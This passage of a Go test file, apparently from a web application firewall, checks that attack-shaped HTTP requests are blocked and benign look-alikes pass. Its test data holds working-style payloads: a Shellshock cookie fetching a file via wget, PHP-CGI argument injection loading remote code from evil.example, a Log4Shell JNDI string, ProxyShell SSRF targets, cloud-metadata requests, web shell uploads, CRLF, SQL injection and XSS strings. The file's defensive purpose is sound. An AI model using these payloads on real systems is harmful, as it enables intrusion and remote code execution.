// name, several or hidden charsets, a Content-Type parameter naming
// another body type.
func TestProtocolHygiene(t *testing.T) {
	eng := mustEngine(t, Config{})
	form := "application/x-www-form-urlencoded"
	tests := []struct {
		name, method, target, ctype, body, cookie string
		rule                                      string // "" for a request that passes
	}{
		{"NUL in a query value", "GET", "/?file=shell.php%00.jpg", "", "", "", "protocol-null-byte"},
		{"NUL in a query name", "GET", "/?test%00=1", "", "", "", "protocol-null-byte"},
		{"NUL in a form value", "POST", "/f", form, "a=b%00c", "", "protocol-null-byte"},
		{"NUL in a cookie", "GET", "/", "", "", "lang=en%00", "protocol-null-byte"},
		{"line feed in the path", "GET", "/index.php/PHP_VALUE%0Asession.auto_start=1", "", "", "", "protocol-path-control"},
		{"NUL in the path", "GET", "/a.php%00.txt", "", "", "", "protocol-path-control"},
		{"line break in a query name", "GET", "/get?parameter%0d%0a=test", "", "", "", "crlf-header-injection"},
		{"two charsets", "POST", "/f", form + "; charset=utf-8; charset=utf-7", "a=b", "", "protocol-charset"},
		{"charset hidden in a quoted parameter", "POST", "/f", form + `; charset=utf-8; boundary="charset=utf-7"`, "a=b", "", "protocol-charset"},
		{"EBCDIC then UTF-8", "POST", "/f", form + ";charset=ibm037;charset=UTF-8", "a=b", "", "protocol-charset"},
		{"a body type in a boundary", "POST", "/f", form + `;boundary="application/json"`, "a=b", "", "protocol-content-type"},
		{"a body type in a charset", "POST", "/f", "text/plain; charset=\"text/xml\"", "a", "", "protocol-content-type"},
		// Benign twins.
		{"JSON with a NUL escape", "POST", "/api", "application/json", `{"a":"b\u0000c"}`, "", ""},
		{"escaped percent in the path", "GET", "/a%2500b/%0Fx", "", "", "", ""},
		{"line break in a query value", "GET", "/?q=a%0Ab", "", "", "", ""},
		{"charset twice, the same", "POST", "/f", form + "; charset=UTF-8; charset=utf-8", "a=b", "", ""},
		{"multipart/related type", "POST", "/f", `multipart/related; type="application/json"; boundary=xyz`, "--xyz--\r\n", "", ""},
		{"SOAP action", "POST", "/f", `application/soap+xml; charset=utf-8; action="urn:GetQuote"`, "<a/>", "", ""},
		{"multipart boundary of any text", "POST", "/f", "multipart/form-data; boundary=form-data-boundary-json", "--form-data-boundary-json--\r\n", "", ""},
		{"JSON:API extension URI", "POST", "/f", `application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"`, `{"a":1}`, "", ""},
		{"SOAP 1.2 action naming XML", "POST", "/f", `application/soap+xml; charset=utf-8; action="http://tempuri.org/IService/GetXml"`, "<a/>", "", ""},
	}
	for _, tc := range tests {
		r := newReq(tc.method, "http://app.example.com"+tc.target, tc.ctype, tc.body)
		if tc.cookie != "" {
			r.Header.Set("Cookie", tc.cookie)
		}
		expectRule(t, eng, r, tc.rule, tc.rule != "", tc.name)
	}
}

// expectRule inspects r and checks that it is blocked with rule among its
// matches (want), or that it passes without rule (!want).
func expectRule(t *testing.T, eng *Engine, r *http.Request, rule string, want bool, what string) {
	t.Helper()
	d, err := eng.Inspect(r)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, m := range d.Matches {
		found = found || m.Rule == rule
	}
	if found != want || d.Blocked != want {
		t.Errorf("%s: blocked %v %v, want %s: %v", what, d.Blocked, d.Matches, rule, want)
	}
}

// TestRequestTargetRules: shapes of the request target that only an
// attack writes, each next to the benign targets that share its first
// bytes. A query string that starts with an address and a path, which a
// backend joining the target to its own URL reads as the authority
// (ProxyShell); a query string that is a PHP command-line option, which
// PHP-CGI takes as its arguments; a redirect route whose last segment
// encodes another site's URL, and a path that starts with another site's
// host then an encoded or dot segment.
func TestRequestTargetRules(t *testing.T) {
	eng := mustEngine(t, Config{})
	tests := []struct {
		target, rule string
		block        bool
	}{
		{"/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example", "ssrf-query-authority", true},
		{"/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", "ssrf-query-authority", true},
		{"/autodiscover/autodiscover.json?%40evil.example%2fPowershell", "ssrf-query-authority", true},
		{"/x?@10.0.0.5:8080/admin", "ssrf-query-authority", true},
		{"/x?@EVIL.Example/", "ssrf-query-authority", true},
		{"/search?@alice", "ssrf-query-authority", false},
		{"/users?@me=1", "ssrf-query-authority", false},
		{"/share?q=@evil.example/x", "ssrf-query-authority", false},
		{"/feed?@handle/posts", "ssrf-query-authority", false},
		{"/x?a=1&@b.example/c", "ssrf-query-authority", false},
		{"/index.php?-s", "rce-php-cgi-argument", true},
		{"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://evil.example/x.txt", "rce-php-cgi-argument", true},
		{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "rce-php-cgi-argument", true},
		{"/index.php?%2dd+allow_url_include%3d1", "rce-php-cgi-argument", true},
		{"/search?-price", "rce-php-cgi-argument", false},
		{"/sort?-created_at&limit=10", "rce-php-cgi-argument", false},
		{"/x?-d=1", "rce-php-cgi-argument", false},
		{"/x?a=1&-s", "rce-php-cgi-argument", false},
		{"/app.example.com.tar.gz", "path-sensitive-file", true},
		{"/backups/app.example.com.zip", "path-sensitive-file", true},
		{"/downloads/app.example.com-brochure.pdf", "path-sensitive-file", false},
		{"/redirect/%2F%2Fevil.example%2F", "redirect-open", true},
		{"/out/https:%2F%2Fevil.example", "redirect-open", true},
		{"/go/%5C%5Cevil.example", "redirect-open", true},
		{"//evil.example/%2e%2e", "redirect-open", true},
		{"//evil.example/..;/", "redirect-open", true},
		{"/redirect/%2Fcheckout%2Fdone", "redirect-open", false},
		{"/out/https:%2F%2Fapp.example.com%2Faccount", "redirect-open", false},
		{"/files/a%2Fb.txt", "redirect-open", false},
		{"//api/v1/users", "redirect-open", false},
		{"//app.example.com/%2e%2e", "redirect-open", false},
		{"/uploads/cmd.aspx?c=whoami%20%2Fall", "path-upload-script", true},
		{"/wp-content/uploads/2024/05/x.php", "path-upload-script", true},
		{"/media/avatars/u1.phtml", "path-upload-script", true},
		{"/wp-content/uploads/2024/05/photo.jpg", "path-upload-script", false},
		{"/upload.php", "path-upload-script", false},
		{"/api/files/index.php", "path-upload-script", false},
		{"/autodiscover/autodiscover.json?@zdi/Powershell?serializationLevel=Full", "ssrf-query-authority", true},
		{"/xmlrpc.php", "path-sensitive-file", true},
		{"/-/user_settings/profile%23.css", "path-static-suffix", true},
		{"/account/settings%3F.js", "path-static-suffix", true},
		{"/docs/c%23.html", "path-static-suffix", false},
		{"/admin/sidekiq", "path-sensitive-file", true},
		{"/blog/xmlrpc.php?rsd", "path-sensitive-file", true},
		{"/app/rest/users;.jsp", "path-static-suffix", true},
		{"/hax?jsp=/app/rest/users;.jsp", "path-static-suffix", true},
		{"/admin;.css/settings", "path-static-suffix", true},
		{"/api/items;v=2", "path-static-suffix", false},
		{"/search?q=a;.css", "path-static-suffix", false},
		{"/ui/h5-vsan/rest/proxy/service/vmodlContext/loadVmodlPackages", "path-sensitive-file", true},
		{"/%5Cevil.example/", "redirect-open", true},
		{"/%5c%5cevil.example", "redirect-open", true},
		{"/\\evil.example/login", "redirect-open", true},
		{"/%5Capp.example.com/login", "redirect-open", false},
		{"/%5Cr%5Cn", "redirect-open", false},
		{"/docs/%5Cevil.example", "redirect-open", false},
	}
	for _, tc := range tests {
		expectRule(t, eng, newReq("GET", "http://app.example.com"+tc.target, "", ""), tc.rule, tc.block, tc.target)
	}
}

// TestRequestLayerShapes: Shellshock in a Cookie header, a request whose
// Host is the metadata service (an absolute-form target), the escape of
// a line break in the path before a response header.
func TestRequestLayerShapes(t *testing.T) {
	eng := mustEngine(t, Config{})
	tests := []struct {
		name, target, cookie, rule string
	}{
		{"shellshock in a cookie", "/cgi-bin/login.cgi", `() { ignored; }; /bin/bash -c "wget http://198.51.100.23/b -O /tmp/b"`, "rce-shellshock"},
		{"metadata host", "http://169.254.169.254/latest/meta-data/", "", "ssrf-cloud-metadata"},
		{"escaped break in the path", "/%5Cr%5Cn%20Set-Cookie:crlf=1", "", "crlf-header-injection"},
		{"benign cookie with braces", "/", "prefs={a:1}; theme=dark", ""},
	}
	for _, tc := range tests {
		target := tc.target
		if !strings.HasPrefix(target, "http") {
			target = "http://app.example.com" + target
		}
		r := newReq("GET", target, "", "")
		if tc.cookie != "" {
			r.Header.Set("Cookie", tc.cookie)
		}
		expectRule(t, eng, r, tc.rule, tc.rule != "", tc.name)
	}
}

// TestScannerHeaders: the headers of WebInspect and Acunetix, and an
// X-Scanner header naming a scanner, block; security headers a browser
// or a CDN sends pass.
func TestScannerHeaders(t *testing.T) {
	eng := mustEngine(t, Config{})
	tests := []struct {
		name, value string
		block       bool
	}{
		{"Acunetix-Product", "WVS/5.0 (Acunetix Web Vulnerability Scanner - NORMAL)", true},
		{"Acunetix-Aspect", "enabled", true},
		{"X-Scan-Memo", `Category="Audit"; Function="createStateRequestFromAttackDefinition"`, true},
		{"X-WIPP", "AscVersion=22.1.0", true},
		{"X-RequestManager-Memo", `sid="1"; smi="0"`, true},
		{"X-Scanner", "Netsparker", true},
		// Benign twins.
		{"X-Scanner", "barcode-reader-2", false},
		{"X-Content-Type-Options", "nosniff", false},
		{"X-Request-Id", "c3c5b7de-8ac9-4f86-9c49-0b6dee85f7d8", false},
		{"Sec-Fetch-Mode", "navigate", false},
	}
	for _, tc := range tests {
		r := newReq("GET", "http://app.example.com/", "", "")
		r.Header.Set(tc.name, tc.value)
		expectRule(t, eng, r, "scanner-header", tc.block, tc.name+": "+tc.value)
	}
}

// TestHostHeaders: a Host with a user-info or a path, a forwarded host
// that imitates the site, and a client that claims a loopback address
// block; a CDN's public name and a local proxy pass.
func TestHostHeaders(t *testing.T) {
	eng := mustEngine(t, Config{})
	for _, c := range []struct {
		host, header, value, remote, rule string
		block                             bool
	}{
		{"app.example.com:443@evil.example", "", "", "203.0.113.7:5000", "protocol-host-invalid", true},
		{"app.example.com", "X-Forwarded-Host", "app.example.com.evil.example", "203.0.113.7:5000", "protocol-host-override", true},
		{"app.example.com", "Forwarded", "for=203.0.113.9;host=app.example.com.evil.example;proto=https", "203.0.113.7:5000", "protocol-host-override", true},
		{"origin.internal", "X-Forwarded-Host", "www.example.com", "203.0.113.7:5000", "protocol-host-override", false},
		{"app.example.com", "X-Forwarded-Host", "app.example.com", "203.0.113.7:5000", "protocol-host-override", false},
		{"app.example.com", "X-Real-Ip", "127.0.0.1", "203.0.113.7:5000", "protocol-client-ip-spoof", true},
		{"app.example.com", "X-Originating-Ip", "::1", "203.0.113.7:5000", "protocol-client-ip-spoof", true},
		{"app.example.com", "X-Real-Ip", "127.0.0.1", "127.0.0.1:5000", "protocol-client-ip-spoof", false},
		{"app.example.com", "X-Real-Ip", "198.51.100.4", "203.0.113.7:5000", "protocol-client-ip-spoof", false},
		{"app.example.com", "Pragma", "akamai-x-get-cache-key, akamai-x-cache-on", "203.0.113.7:5000", "scanner-header", true},
		{"app.example.com", "Pragma", "no-cache", "203.0.113.7:5000", "scanner-header", false},
	} {
		r := newReq("GET", "http://app.example.com/users/password", "", "")
		r.Host = c.host
		r.RemoteAddr = c.remote
		if c.header != "" {
			r.Header.Set(c.header, c.value)
		}
		expectRule(t, eng, r, c.rule, c.block, c.host+" "+c.header+": "+c.value)
	}
}

// TestH2CUpgrade: a request for cleartext HTTP/2 through the proxy
// blocks; WebSocket upgrades pass.
func TestH2CUpgrade(t *testing.T) {
	eng := mustEngine(t, Config{})
	for _, tc := range []struct {
		upgrade string
		block   bool
	}{
		{"h2c", true},
		{"H2C", true},
		{"websocket, h2c", true},
		{"websocket", false},
		{"h2c-ish", false},
	} {
		r := newReq("GET", "http://app.example.com/admin", "", "")
		r.Header.Set("Upgrade", tc.upgrade)
		r.Header.Set("Connection", "Upgrade, HTTP2-Settings")
		r.Header.Set("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")
		expectRule(t, eng, r, "protocol-h2c-upgrade", tc.block, tc.upgrade)
	}
}

// TestClientIPOverflow: an address header element longer than any
// address blocks; proxy chains of many addresses pass.
func TestClientIPOverflow(t *testing.T) {
	eng := mustEngine(t, Config{})
	for _, tc := range []struct {
		name, v string
		block   bool
	}{
		{"X-Forwarded-For", strings.Repeat("1", 63) + "11", true},
		{"X-Forwarded-For", "203.0.113.7, " + strings.Repeat("A", 200), true},
		{"X-Real-Ip", strings.Repeat("9", 100), true},
		{"X-Forwarded-For", "203.0.113.7, 198.51.100.2, 10.0.0.1, 10.0.0.2, 10.0.0.3, 10.0.0.4, 10.0.0.5", false},
		{"X-Forwarded-For", "[2001:db8:85a3:8d3:1319:8a2e:370:7348%eth0]:8443, unknown", false},
		{"X-Forwarded-For", strings.Repeat("1", 63), true},
		{"X-Forwarded-For", "203.0.113.7:54321", false},
	} {
		r := newReq("GET", "http://app.example.com/dana-na/auth/url_default/welcome.cgi", "", "")
		r.Header.Set(tc.name, tc.v)
		expectRule(t, eng, r, "protocol-client-ip-overflow", tc.block, tc.name+": "+tc.v)
	}
}

// TestScriptWrite: a PUT that writes a server script, and a WebDAV MOVE
// or COPY whose Destination names one, block (on a site that allows
// WebDAV's methods); writes of data files pass.
func TestScriptWrite(t *testing.T) {
	eng := mustEngine(t, Config{AllowedMethods: append([]string{"MOVE", "COPY"}, DefaultAllowedMethods...)})
	tests := []struct {
		method, target, dest string
		block                bool
	}{
		{"PUT", "/uploads/shell.jsp/", "", true},
		{"PUT", "/uploads/shell.jsp%20", "", true},
		{"PUT", "/dav/cmd.aspx::$DATA", "", true},
		{"PUT", "/dav/x.php", "", true},
		{"MOVE", "/dav/shell.txt", "http://app.example.com/dav/shell.php", true},
		{"COPY", "/dav/a.txt", "/dav/a.asp;.txt", true},
		// Benign twins.
		{"PUT", "/api/v1/users/42", "", false},
		{"PUT", "/files/report.pdf", "", false},
		{"PUT", "/api/docs/php-intro", "", false},
		{"MOVE", "/dav/a.txt", "/dav/b.txt", false},
		{"GET", "/index.php", "", false},
	}
	for _, tc := range tests {
		r := newReq(tc.method, "http://app.example.com"+tc.target, "application/octet-stream", "data")
		if tc.dest != "" {
			r.Header.Set("Destination", tc.dest)
		}
		expectRule(t, eng, r, "upload-script-file", tc.block, tc.method+" "+tc.target+" "+tc.dest)
	}
}

// TestRefererQuery: another site's page URL sent as the Referer has its
// query judged value by value, as that site read it; attacks inside it
// and sent as the Referer itself still block, twice in a row (the second
// time through the clean-value memo).
func TestRefererQuery(t *testing.T) {
	eng := mustEngine(t, Config{})
	tests := []struct {
		referer string
		blocked bool
	}{
		{"https://www.bing.com/search?q=%3Cscript%3E+tag+in+html&form=QBLH", false},
		{"https://www.google.com/search?q=union+select+tutorial&oq=union", false},
		{"https://duckduckgo.com/?q=what+is+a+%3Cscript%3E+tag&ia=web", false},
		{"https://app.example.com/reports?where=" + url.QueryEscape("country = 'IE' and revenue > 100"), false},
		{"https://other.example/?q=%27%20or%201%3D1--", true},
		{"https://other.example/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", true},
		{"https://other.example/?a=1&x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", true},
		{"https://other.example/'%20union%20select%20password%20from%20users--?a=1", true},
		{"https://other.example/?q=<script>alert(1)</script>", true},
		{"'><script>alert(1)</script>", true},
	}
	for range 2 {
		for _, tc := range tests {
			d, err := eng.Inspect(newReq("GET", "http://app.example.com/", "", "", "Referer", tc.referer))
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != tc.blocked {
				t.Errorf("Referer %s: blocked %v %v, want %v", tc.referer, d.Blocked, d.Matches, tc.blocked)
			}
		}
	}
}

// TestRefererCustomRules: custom rules see another site's Referer as sent,
// also once the detectors know it clean.
func TestRefererCustomRules(t *testing.T) {
	eng := mustEngine(t, Config{CustomRules: []CustomRule{{ID: "partner", Pattern: `partner\.example`, Score: 1}}})
	for i := range 3 {
		d, err := eng.Inspect(newReq("GET", "http://app.example.com/", "", "", "Referer", "https://www.partner.example/search?q=shoes"))
		if err != nil {
			t.Fatal(err)
		}
		if len(d.Matches) != 1 || d.Matches[0].Rule != "custom-partner" {
			t.Errorf("request %d: %v, want one custom-partner match", i+1, d.Matches)
		}
	}
}
